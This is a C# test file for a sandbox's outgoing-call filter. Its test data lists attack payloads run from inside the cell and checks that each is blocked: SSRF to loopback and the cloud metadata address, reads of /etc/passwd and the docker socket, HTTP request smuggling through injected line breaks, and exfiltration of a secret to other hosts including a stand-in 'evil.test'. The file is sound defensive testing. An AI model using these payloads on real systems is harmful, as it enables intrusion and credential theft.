using System.Collections.Concurrent;
using System.IO.Compression;
using System.Net;
using System.Text;
using Eddy.Egress;
using Eddy.Sandbox;
using Eddy.Secrets;
using Eddy.Tests.Egress;
using Eddy.Tests.Secrets;
using Microsoft.Extensions.Logging.Abstractions;

namespace Eddy.Tests.Sandbox;

/// <summary>
/// Attacks from a real cell on the real way out: by frames of their own, past whatever the guest's Python would check. Each says what stopped it, and
/// none of them may reach a server that is not allowed, or bring a secret's value into the cell or to a host that it is not for.
/// </summary>
[Trait("Category", "Long")]
public sealed class EgressAttackTests(TestDatabase database, EgressAttackTests.Cells cells) : IClassFixture<EgressAttackTests.Cells>, IAsyncLifetime
{
    private const string Value = "s3cr3t-0f-the-attacker+own/letters";
    private const string Foreign = "s3cr3t-0f-somebody-else-entirely";

    private const string Rule = """
        import base64, json, os, sys, time, urllib.parse
        from attempt import frame, own, outcome
        def ask(*words): os.write(3, frame(json.dumps(words)))
        def raw(method, address, *headers, body=b"", seconds=60): return own("Line")._ask(["call", method, address, list(headers), seconds], body)
        def told(what):
            (status, reason, headers), body = what
            return [status, reason, headers, base64.b64encode(body).decode()]
        class go(Rule):
            listens_to = ["go"]
            def action(self):
                site, other, forbidden, foreign, KEY = "{site}", "{other}", "{forbidden}", "{foreign}", secrets.KEY
                self.got = {0}

        """;

    private SecretKeeper _keeper = null!;
    private OutgoingCalls _calls = null!;
    private RawServer _site = null!;
    private RawServer _forbidden = null!;
    private Eddy.Tests.TestTenant _attacker = null!;
    private Eddy.Tests.TestTenant _other = null!;
    private readonly ConcurrentBag<string> _names = [];
    private string _own = "";
    private string _foreign = "";

    /// <summary>What a run does, by name, and what stops it: words of the refusal, <c>lie</c>, or <c>let</c> where it is let and gains nothing.</summary>
    public static TheoryData<string, string, string> Attacks => new()
    {
        // Where nothing may go.
        { "another port of the machine", "raw('GET', forbidden)", "of the machine itself" },
        { "another port by the name localhost", "raw('GET', forbidden.replace('127.0.0.1', 'localhost'))", "of the machine itself" },
        { "another port by a name that leads there", "raw('GET', forbidden.replace('127.0.0.1', 'evil.test'))", "of the machine itself" },
        { "another port by IPv6", "raw('GET', forbidden.replace('127.0.0.1', '[::1]'))", "of the machine itself" },
        { "another port by an address within IPv6", "raw('GET', forbidden.replace('127.0.0.1', '[::ffff:127.0.0.1]'))", "of the machine itself" },
        { "another port as one number", "raw('GET', forbidden.replace('127.0.0.1', '2130706433'))", "of the machine itself" },
        { "another port in octal", "raw('GET', forbidden.replace('127.0.0.1', '0177.0.0.01'))", "of the machine itself" },
        { "another port of no address", "raw('GET', forbidden.replace('127.0.0.1', '0.0.0.0'))", "only public ones are called" },
        { "the cloud's metadata", "raw('GET', 'http://169.254.169.254/latest/meta-data/')", "link-local" },
        { "a file", "raw('GET', 'file:///etc/passwd')", "Only http and https" },
        { "gopher", "raw('GET', forbidden.replace('http', 'gopher'))", "Only http and https" },
        { "a socket of this machine", "raw('GET', 'http+unix://%2Fvar%2Frun%2Fdocker.sock/info')", "can not be read" },
        { "a name before the address", "raw('GET', site.replace('://', '://x@').replace('x@', site[7:] + '@', 1).replace(site[7:] + '@' + site[7:], site[7:] + '@' + forbidden[7:]))", "A user name" },
        { "a backslash", "raw('GET', site + '\\\\@' + forbidden[7:])", "a backslash" },
        { "an address behind the fragment", "raw('GET', forbidden + '#@' + site[7:])", "of the machine itself" },
        { "a port beyond ports", "raw('GET', 'http://127.0.0.1:65536/')", "can not be read" },
        { "a redirect to where nothing may go", "told(raw('GET', site + '/redirect'))", "let" },
        { "a redirect that a library follows", "http.get(site + '/redirect').text", "of the machine itself" },

        // Requests within requests.
        { "a second request in a header", "raw('GET', site, 'X-A', 'b\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x')", "a line break" },
        { "a second request in the method", "raw('GET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET', site)", "The method is none" },
        { "a second request in the path", "told(raw('GET', site + '/a HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /smuggled'))", "a control character" },
        { "a body that is longer than it says", "told(raw('POST', site, 'Content-Length', '3', body=b'abcGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))", "let" },
        { "a body in pieces that end early", "told(raw('POST', site, 'Transfer-Encoding', 'chunked', body=b'0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'))", "let" },
        { "another host's name", "raw('GET', site, 'Host', 'internal.test')", "names another host" },
        { "an upgrade of the connection", "told(raw('GET', site, 'Connection', 'Upgrade', 'Upgrade', 'h2c'))", "let" },
        { "a tunnel", "raw('CONNECT', site)", "CONNECT does not go out" },
        { "a hundred thousand headers", "raw('GET', site, *['X-A', 'b'] * 100_000)", "200 headers" },

        // More than a run may have.
        { "a hundred calls and one", "[told(raw('GET', site)) and None for _ in range(101)]", "100 calls" },
        { "bodies beyond the limit of a run", "[raw('POST', site, body=bytes(4 << 20)) and None for _ in range(3)]", "10485760 bytes" },
        { "a body beyond what may be asked with", "raw('POST', site, body=bytes(11 << 20))", "lie" },
        { "signatures without end", "[sign(KEY, 'x') and None for _ in range(10_001)]", "lie|WallTime|CpuTime" },
        { "a call in no time at all", "raw('GET', site + '/silent', seconds=0)", "not done in" },
        { "a call of endless time", "os.write(3, frame('[\"call\",\"GET\",\"http://a/\",[],Infinity]')) and time.sleep(2)", "lie" },

        // What is another tenant's.
        { "another tenant's secret in a header", "told(raw('GET', site + '/echo', 'X-Key', foreign))", "let" },
        { "another tenant's secret in a body", "told(raw('POST', site + '/echo', body=foreign.encode()))", "let" },
        { "another tenant's secret in HTTP Basic", "told(raw('GET', site + '/echo', 'Authorization', 'Basic ' + base64.b64encode(('a:' + foreign).encode()).decode()))", "let" },
        { "a signature with another tenant's secret", "own('Line')._ask(['sign', foreign, 'sha256'], b'x')", "no such secret" },
        { "a signature with another tenant's secret by its name", "own('Line')._ask(['sign', 'OTHERS', 'sha256'], b'x')", "no secret 'OTHERS'" },
        { "a signature by no algorithm", "own('Line')._ask(['sign', KEY, 'none'], b'x')", "sha512 or sha1" },
        { "a signature by md5", "own('Line')._ask(['sign', KEY, 'md5'], b'x')", "sha512 or sha1" },
        { "the names of other tenants' secrets", "[name for name in secrets if name != 'KEY'] or None", "let" },

        // The own secret's value, which is not for the cell, nor for other hosts.
        { "the value to another host", "raw('GET', other, 'X-Key', KEY)", "not for" },
        { "the value to another host in the query", "raw('GET', other + '/?k=' + KEY)", "not for" },
        { "the value to another host in HTTP Basic", "raw('GET', other, 'Authorization', 'Basic ' + base64.b64encode(('a:' + KEY).encode()).decode())", "not for" },
        { "the value as a host's name", "raw('GET', 'http://' + KEY + '.evil.test:' + forbidden.rsplit(':', 1)[1] + '/')", "of the machine itself" },
        { "the value as a method", "raw(KEY, site)", "The method is none" },
        { "the value as a header's name", "told(raw('GET', site, KEY, 'x'))", "let" },
        { "an echo", "told(raw('GET', site + '/echo', 'X-Key', KEY))", "let" },
        { "an echo in base64", "told(raw('GET', site + '/base64', 'X-Key', KEY))", "let" },
        { "an echo in base64 that begins elsewhere", "told(raw('GET', site + '/base64-shifted', 'X-Key', KEY))", "let" },
        { "an echo in hexadecimal", "told(raw('GET', site + '/hex', 'X-Key', KEY))", "let" },
        { "an echo that is packed", "told(raw('GET', site + '/gzip', 'X-Key', KEY))", "let" },
        { "an echo in a header", "told(raw('GET', site + '/header', 'X-Key', KEY))", "let" },
        { "an echo in the reason", "told(raw('GET', site + '/reason', 'X-Key', KEY))", "let" },
        { "an echo in what is no HTTP", "raw('GET', site + '/garbage', 'X-Key', KEY)", "as HTTP wants it" },
        { "an echo that leads to another host", "http.get(site + '/lead', headers={'X-Key': KEY}).text", "not for" },
        { "an echo by the error of a run", "sys.exit(str(told(raw('GET', site + '/echo', 'X-Key', KEY))))", "SystemExit" },
        { "an echo by the log of a run", "print(raw('GET', site + '/echo', 'X-Key', KEY))", "let" },
    };

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    public async ValueTask InitializeAsync()
    {
        _site = new RawServer(AnswerAsync);
        _forbidden = new RawServer(RawServer.Ok("what nobody may see"));
        _attacker = await Eddy.Tests.TestTenant.MakeAsync(database);
        _other = await Eddy.Tests.TestTenant.MakeAsync(database);
        var store = TestSecrets.Store(database, TestSecrets.Masters(TestSecrets.Line("one")));
        _keeper = cells.Keeper = TestSecrets.Keeper(store);
        await store.SetAsync(_attacker, "KEY", Value, $"api.test:{_site.Port}");
        await store.SetAsync(_other, "OTHERS", Foreign, $"api.test:{_site.Port}");
        _own = (await store.SetOfAsync(_attacker)).Placeholder("KEY");
        _foreign = (await store.SetOfAsync(_other)).Placeholder("OTHERS");
        _calls = new OutgoingCalls(
            new EgressOptions { Ports = [80, 443, _forbidden.Port], Allow = [$"api.test:{_site.Port}", $"other.test:{_site.Port}"] }, _keeper, TimeProvider.System, NullLogger<OutgoingCalls>.Instance,
            name =>
            {
                _names.Add(name);
                return Task.FromResult<IPAddress[]>([IPAddress.Loopback]);
            });
    }

    [Theory, MemberData(nameof(Attacks))]
    public async Task It_is_stopped_and_nothing_gets_out(string name, string expression, string stopped)
    {
        var (ended, trail) = await RunAsync(expression);

        var outcome = ended.Outcome == RunOutcome.Ran ? "let"
            : ended.Error!.Message.Contains("telling what can not be", StringComparison.Ordinal) || ended.Error.Message.Contains("It asked", StringComparison.Ordinal) ? "lie" : $"{ended.Error.Kind}: {ended.Error.Message}";
        stopped.Split('|').ShouldContain(one => one == outcome || one != "let" && one != "lie" && outcome.Contains(one, StringComparison.OrdinalIgnoreCase), $"{name}: {outcome}");
        _forbidden.Connections.ShouldBe(0, name);
        _names.ShouldAllBe(host => !host.Contains(Value, StringComparison.OrdinalIgnoreCase) && !host.Contains(Foreign, StringComparison.OrdinalIgnoreCase));
        foreach (var request in _site.Requests)
        {
            request.ShouldNotContain(Foreign, Case.Sensitive, name);
            request.ShouldNotStartWith("GET /smuggled");
            if (request.Contains(Value, StringComparison.Ordinal))
            {
                request.ShouldContain($"\r\nHost: api.test:{_site.Port}\r\n", Case.Insensitive, name);
            }
        }

        // All that the cell has heard is in what it told.
        var told = string.Join('\n', [.. ended.Changes.Select(change => change.Value), ended.Log, ended.Error?.Message, ended.Error?.Traceback, .. trail.Records.Select(record => record.ToString())]);
        told += string.Join('\n', Decoded(told));
        foreach (var trace in (string[])[Value, Foreign, Convert.ToHexStringLower(Encoding.ASCII.GetBytes(Value)), Convert.ToBase64String(Encoding.ASCII.GetBytes(Value))[..24], "what nobody may see"])
        {
            told.ShouldNotContain(trace, Case.Insensitive, name);
        }
    }

    [Fact]
    public async Task A_run_in_the_line_can_ask_for_no_call_of_its_own_making()
    {
        var tenant = Tenant("""ask("call", "GET", site, [], 5) or time.sleep(2)""");

        var run = await tenant.OneRunAsync(15, ("go", "1"));

        run.Outcome.ShouldBe(RunOutcome.Killed);
        run.Error!.Message.ShouldContain("what it may not ask here");
        _site.Connections.ShouldBe(0);
    }

    [Fact]
    public async Task A_file_that_loads_can_ask_for_no_call_of_its_own_making()
    {
        var tenant = new TestTenant(cells.Sandbox, ("scripts/rule.py", $"""
            import json, os, time
            from attempt import frame
            os.write(3, frame(json.dumps(["call", "GET", "http://api.test:{_site.Port}/", [], 5])))
            time.sleep(1)
            """), ("libraries/attempt.py", Attempt.Source("attempt")));

        var loaded = await tenant.LoadAsync();

        loaded.Errors.ShouldHaveSingleItem().File.ShouldBe("scripts/rule.py");
        _site.Connections.ShouldBe(0);
    }

    public async ValueTask DisposeAsync()
    {
        await _calls.DisposeAsync();
        await _site.DisposeAsync();
        await _forbidden.DisposeAsync();
        _keeper.Dispose();
    }

    private static IEnumerable<string> Decoded(string text) => System.Text.RegularExpressions.Regex.Matches(text, "[A-Za-z0-9+/]{16,}={0,2}")
        .Select(match => match.Value.Length % 4 == 0 ? Encoding.Latin1.GetString(Convert.FromBase64String(match.Value)) : "");

    private TestTenant Tenant(string expression)
    {
        var rule = Rule.Replace("{0}", expression, StringComparison.Ordinal)
            .Replace("{site}", $"http://api.test:{_site.Port}", StringComparison.Ordinal).Replace("{other}", $"http://other.test:{_site.Port}", StringComparison.Ordinal)
            .Replace("{forbidden}", $"http://127.0.0.1:{_forbidden.Port}", StringComparison.Ordinal).Replace("{foreign}", _foreign, StringComparison.Ordinal);
        var tenant = new TestTenant(cells.Sandbox, ("scripts/rule.py", rule), ("libraries/attempt.py", Attempt.Source("attempt")));
        tenant.Tree = tenant.Tree with { Tenant = _attacker.Id, Secrets = new Dictionary<string, string> { ["KEY"] = _own } };
        return tenant;
    }

    private async Task<(RunEnded Ended, CallTrail Trail)> RunAsync(string expression)
    {
        var tenant = Tenant(expression);
        var run = new OwedRun(
            "scripts/rule.py:go", 15, [new SetEvent(1, 15, "go", "1", null)], TestTenant.Now, "post", new Cascade(Guid.NewGuid(), "key:sensors", 0), 1, []);
        var state = new Dictionary<long, IReadOnlyDictionary<string, string>> { [0] = new Dictionary<string, string>(), [15] = new Dictionary<string, string> { ["go"] = "1" } };
        var trail = new CallTrail();

        var ended = await cells.Sandbox.RunBesideAsync(
            tenant.Tree, new BesideRun(run, TestTenant.Now, state),
            (request, ct) => _calls.CallAsync(_attacker.Id, request, trail, ct), Ct);

        return (ended.Ended.ShouldNotBeNull(), trail);
    }

    private async Task AnswerAsync(RawCall call)
    {
        var value = call.Request.Split("\r\n").FirstOrDefault(line => line.StartsWith("X-Key: ", StringComparison.OrdinalIgnoreCase))?[7..] ?? "";
        var bytes = Encoding.ASCII.GetBytes(value);
        switch (call.Path)
        {
            case "/redirect":
                await call.WriteAsync($"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{_forbidden.Port}/\r\nContent-Length: 0\r\n\r\n");
                break;
            case "/lead":
                await call.WriteAsync($"HTTP/1.1 302 Found\r\nLocation: http://other.test:{_site.Port}/?{value}\r\nContent-Length: 0\r\n\r\n");
                break;
            case "/echo":
                await call.WriteAsync(RawServer.Ok(call.Request));
                break;
            case "/base64":
                await call.WriteAsync(RawServer.Ok(Convert.ToBase64String(bytes)));
                break;
            case "/base64-shifted":
                await call.WriteAsync(RawServer.Ok(Convert.ToBase64String([1, .. bytes, 2])));
                break;
            case "/hex":
                await call.WriteAsync(RawServer.Ok(Convert.ToHexStringLower(bytes)));
                break;
            case "/gzip":
                using (var packed = new MemoryStream())
                {
                    await using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true))
                    {
                        await gzip.WriteAsync(bytes);
                    }

                    await call.WriteAsync($"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {packed.Length}\r\n\r\n");
                    await call.WriteAsync(packed.ToArray());
                }

                break;
            case "/header":
                await call.WriteAsync(RawServer.Ok("", $"X-Echo: {value}\r\n"));
                break;
            case "/reason":
                await call.WriteAsync($"HTTP/1.1 200 {value}\r\nContent-Length: 0\r\n\r\n");
                break;
            case "/garbage":
                await call.WriteAsync($"{value} {value}\r\n{value}\r\n\r\n");
                call.HangUp();
                break;
            case "/silent":
                await call.KeepSilentAsync();
                break;
            default:
                await call.WriteAsync(RawServer.Ok("fine"));
                break;
        }
    }

    /// <summary>A sandbox whose signatures come from the keeper of the test that runs.</summary>
    public sealed class Cells : IAsyncLifetime
    {
        internal SecretKeeper? Keeper { get; set; }

        public RuleSandbox Sandbox { get; private set; } = null!;

        public async ValueTask InitializeAsync()
        {
            var options = CellFixture.Limits();
            options.WallTime = TimeSpan.FromMinutes(2);
            options.CpuTime = TimeSpan.FromSeconds(5);
            options.MemoryMiB = 128;
            Sandbox = new RuleSandbox(options, TimeProvider.System, NullLogger<RuleSandbox>.Instance, (tenant, secret, algorithm, data, ct) => Keeper!.SignAsync(tenant, secret, algorithm, data, ct));
            await Sandbox.StartAsync(Ct);
        }

        public ValueTask DisposeAsync() => Sandbox.DisposeAsync();
    }
}
